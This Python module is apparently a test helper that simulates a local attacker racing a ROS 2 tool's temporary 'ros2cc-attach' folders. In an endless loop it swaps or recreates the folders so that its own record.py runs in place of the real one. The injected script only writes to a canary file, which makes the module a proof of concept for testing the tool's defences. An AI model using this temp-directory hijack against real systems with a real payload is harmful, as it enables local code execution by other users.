"""What a local user can do: put a script of their own wherever another waits to be run."""

from __future__ import annotations

import contextlib
import os
from pathlib import Path


def replace_scripts(folder: Path, canary: Path, looks: Path) -> None:
    """
    Go on until ended.

    :param folder: for temporary files.
    :param canary: what a script that was brought in writes.
    :param looks: is made when the first look was taken.
    """
    os.umask(0)
    evil = f'open({str(canary)!r}, "a").write("run\\n")\n'
    while True:
        for handed in folder.glob('ros2cc-attach-*[!y]'):
            with contextlib.suppress(OSError):
                own = handed / 'own.py'
                own.write_text(evil)
                own.replace(handed / 'record.py')
            with contextlib.suppress(OSError):
                handed.rename(f'{handed}.away')
                handed.mkdir()
                (handed / 'record.py').write_text(evil)
        looks.touch()
